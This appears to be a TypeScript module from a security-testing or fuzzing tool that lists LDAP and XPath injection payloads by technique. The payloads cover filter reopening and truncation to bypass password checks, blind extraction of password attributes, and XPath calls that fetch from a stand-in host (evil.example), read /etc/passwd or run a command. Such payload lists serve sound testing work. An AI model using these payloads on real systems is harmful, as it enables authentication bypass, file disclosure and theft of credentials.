import type { TechniqueFamily } from '../technique.ts';

const DATA = [
  'query value',
  'form value',
  'JSON leaf',
  'multipart field',
  'XML text',
  'cookie',
] as const;

export const ldapTechniques: TechniqueFamily = {
  about: 'a filter of a directory',
  places: [...DATA, 'basic credentials', 'path'],
  fields: ['user', 'uid', 'cn', 'login', 'group'],
  techniques: {
    'filter reopened': {
      does: 'Ends the comparison and adds another one',
      needs: 'any directory',
      values: () => [
        '*)(uid=*))(|(uid=*',
        'admin)(|(password=*))',
        'x)(objectClass=*)',
        '*)(mail=*)',
        'admin)(!(cn=q))',
        'a)(&(role=admin)(cn=*)',
        '*))(|(objectclass=person',
        'bob)(userPassword=a*',
      ],
    },
    'filter cut off': {
      does: 'Ends the filter, so that the check of the password is not read',
      needs: 'any directory',
      values: () => [
        'admin)(&)',
        'admin)(&))',
        '*))\0',
        'admin))(|(cn=',
        '*)(|(&',
        'admin)(uid=*))\0',
        '*)(cn=*))((|(cn=*',
      ],
    },
    'attributes read': {
      does: 'Asks for the value of an attribute, character by character',
      needs: 'any directory',
      values: (random) => {
        const letter = random.text('abcdefgh', 1);
        return [
          `*)(userPassword=${letter}*`,
          `admin)(homeDirectory=/home/${letter}*`,
          `*)(description=${letter}*)(cn=*`,
          `x)(memberOf=cn=${letter}*)`,
        ];
      },
    },
  },
};

export const xpathTechniques: TechniqueFamily = {
  about: 'an expression that selects nodes of an XML document',
  places: [...DATA, 'path'],
  fields: ['user', 'name', 'id', 'section'],
  techniques: {
    'true for a text': {
      does: 'Ends a text and adds a condition that is always true',
      needs: 'any XPath processor',
      values: () => [
        "' or '3'='3",
        "x' or true() or 'a'='b",
        "' or count(/*)=1 or 'a'='b",
        "admin' or name()='user' or 'x'='y",
        "') or position()=1 or ('a'='b",
        '" or "q"="q',
      ],
    },
    'other nodes': {
      does: 'Ends the expression and selects other nodes',
      needs: 'any XPath processor',
      values: () => [
        "'] | //user/* | a['",
        "']/../*|//password['",
        "x']|//*[name()='user",
        "') ] | //user/password[ ('",
        "'] | /*/*/* | x['",
      ],
    },
    blind: {
      does: 'Asks for the structure or a text of the document',
      needs: 'any XPath processor',
      values: (random) => {
        const n = 1 + random.below(9);
        return [
          `' and string-length(//user[${n}]/password)=8 and '1'='1`,
          `' or substring(//user[position()=${n}]/password,1,1)='a`,
          `' and count(//user/child::node())>${n} and 'a'='a`,
          `x' or starts-with(name(/*[1]),'u') or 'q'='r`,
          `' and local-name(/*[1]/*[${n}])='user' and '1'='1`,
        ];
      },
    },
    functions: {
      does: 'Calls functions that load documents or run code',
      needs: 'XPath 2.0, or extension functions',
      values: () => [
        "' and doc('http://evil.example/a.xml')/x or 'a'='b",
        "concat('a',doc('file:///etc/hostname'))",
        "' or unparsed-text('/etc/passwd') or '",
        "exec(java.lang.Runtime.getRuntime(),'id')",
      ],
    },
  },
};
